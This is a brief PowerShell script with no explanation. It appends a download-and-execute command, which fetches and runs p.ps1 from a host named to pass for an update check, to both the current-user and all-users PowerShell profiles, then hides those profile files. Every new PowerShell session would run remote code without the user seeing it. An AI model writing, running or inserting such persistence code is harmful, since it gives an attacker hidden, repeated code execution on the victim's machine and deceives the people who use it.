$line = "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example.org/p.ps1')"
$profiles = @($PROFILE.CurrentUserAllHosts, $PROFILE.AllUsersAllHosts)

foreach ($p in $profiles) {
    $dir = Split-Path -Path $p -Parent
    if (-not (Test-Path $dir)) {
        New-Item -ItemType Directory -Path $dir -Force | Out-Null
    }
    Add-Content -Path $p -Value $line
    (Get-Item $p).Attributes = 'Hidden'
}
